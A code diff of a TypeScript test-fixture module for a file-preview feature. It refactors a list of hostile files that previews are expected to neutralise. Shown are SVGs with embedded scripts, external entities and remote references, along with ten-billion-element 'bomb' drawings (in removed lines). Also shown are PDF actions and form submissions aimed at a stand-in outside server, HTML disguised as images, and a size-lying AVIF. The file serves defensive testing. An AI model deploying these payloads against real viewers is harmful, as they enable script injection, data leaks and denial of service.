@@ -1,13 +1,5 @@
+import { type HostileFile, hostileDrawings, none, shown } from "./hostile-drawings.ts";
 import { GIF, named, pdf, png } from "./preview-files.ts";
-import type { Item } from "./shares.ts";
-
-export interface HostileFile {
-  item: Item;
-  /** What the recipient sees: the content, or that there is no preview. */
-  outcome: "shown" | "none";
-  /** What a recipient with Firefox sees, if it is something else. */
-  inFirefox?: "shown" | "none";
-}
 
 /** A script that tries everything. `stranger`: the address of another server. */
 function attack(stranger: string): string {
@@ -42,57 +34,12 @@ export function hostilePage(stranger: string): string {
 /** Files that no preview may obey, each in one share. */
 export function hostileFiles(stranger: string): Record<string, HostileFile> {
   const page = hostilePage(stranger);
-  const svg = (content: string, before = "", attributes = "") =>
-    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}<circle r="4"/></svg>`;
   const script = attack(stranger);
-  const shown = (name: string, content: string | Uint8Array): HostileFile => ({
-    item: named(name, content),
-    outcome: "shown",
-  });
-  const none = (name: string, content: string | Uint8Array): HostileFile => ({
-    item: named(name, content),
-    outcome: "none",
-  });
   const action = (what: string) => pdf({ catalogue: `/OpenAction << ${what} >>` });
   const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${stranger}/link) >> >>`;
   const field = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 99 99] /AA << /PV << /S /SubmitForm /F (${stranger}/form) >> >> >>`;
   return {
-    "an SVG with scripts": shown(
-      "script.svg",
-      svg(`<script>${script}</script><script href="${stranger}/s"/>`, "", `onload='${script}'`),
-    ),
-    "an SVG with HTML inside": shown(
-      "foreign.svg",
-      svg(
-        `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${stranger}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror='${script}'/></foreignObject>`,
-      ),
-    ),
-    "an SVG with references to another server": shown(
-      "references.svg",
-      svg(
-        `<style>@import "${stranger}/i"; @font-face { font-family: f; src: url(${stranger}/f) } text { font-family: f; fill: url(${stranger}/p#p) }</style><text>a</text><image href="${stranger}/i" width="9" height="9"/><use href="${stranger}/u#u"/><use xlink:href="${stranger}/x#x"/><feImage href="${stranger}/fe"/><animate attributeName="href" to="${stranger}/a"/>`,
-        `<?xml version="1.0"?>`,
-      ),
-    ),
-    "an SVG with a style sheet of another server": shown(
-      "sheet.svg",
-      svg("", `<?xml-stylesheet href="${stranger}/sheet"?>`),
-    ),
-    "an SVG with a document type of another server": shown(
-      "type.svg",
-      svg("", `<!DOCTYPE svg SYSTEM "${stranger}/type">`),
-    ),
-    "an SVG with an external entity": shown(
-      "entity.svg",
-      svg("&e;", `<!DOCTYPE svg [<!ENTITY e SYSTEM "${stranger}/entity">]>`),
-    ),
-    "an SVG that draws ten billion circles": none("bomb.svg", svg(uses(10, 10))),
-    "an SVG whose patterns consist of each other": none("patterns.svg", svg(patterns(10, 10))),
-    "an SVG whose style sheet makes patterns consist of each other": none(
-      "styled.svg",
-      svg(`<style>rect { fill: url(#p1) } circle { fill: url(#p2) } path { fill: url(#p3) }</style>
-        ${[1, 2, 3].map((n) => `<pattern id="p${n}">${"<rect/><circle/><path/>".repeat(99)}</pattern>`).join("")}`),
-    ),
+    ...hostileDrawings(stranger, script),
     "HTML named .png": shown("page.png", page),
     "HTML named .pdf": shown("page.pdf", page),
     "HTML named .txt": shown("page.txt", page),
@@ -176,6 +123,13 @@ export function hostileFiles(stranger: string): Record<string, HostileFile> {
       ...shown("short.png", png(900, 900, { width: 9, height: 9 })),
       inFirefox: "none",
     },
+    "an AVIF that may be larger than it claims": none(
+      "small.avif",
+      Buffer.concat([
+        Buffer.from("\0\0\0\x14ftypavif\0\0\0\0avif\0\0\0\x14ispe\0\0\0\0", "latin1"),
+        Buffer.from("0000000900000009", "hex"),
+      ]),
+    ),
     "a damaged picture": none("damaged.png", png(9, 9).subarray(0, 40)),
     "a damaged PDF": none("damaged.pdf", "%PDF-1.7\nnothing"),
     "a damaged film": none("damaged.webm", Buffer.from("1a45dfa3ffffffffffffff00", "hex")),
@@ -200,22 +154,4 @@ export function hostileFiles(stranger: string): Record<string, HostileFile> {
 
 function stream(content: string): string {
   return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
-}
-
-/** Groups that each draw the one before several times. */
-function uses(levels: number, times: number): string {
-  const groups = Array.from({ length: levels }, (_, level) => {
-    const use = level === 0 ? "<circle r='1'/>" : `<use href="#g${level - 1}"/>`;
-    return `<g id="g${level}">${use.repeat(times)}</g>`;
-  });
-  return groups.join("");
-}
-
-/** Patterns that each consist of the one before several times. */
-function patterns(levels: number, times: number): string {
-  const all = Array.from({ length: levels }, (_, level) => {
-    const part = `<rect width="9" height="9" fill="url('#p${level - 1}')"/>`;
-    return `<pattern id="p${level}" width="1" height="1">${part.repeat(times)}</pattern>`;
-  });
-  return `${all.join("")}<rect width="9" height="9" style="fill: url(#p${levels - 1})"/>`;
 }
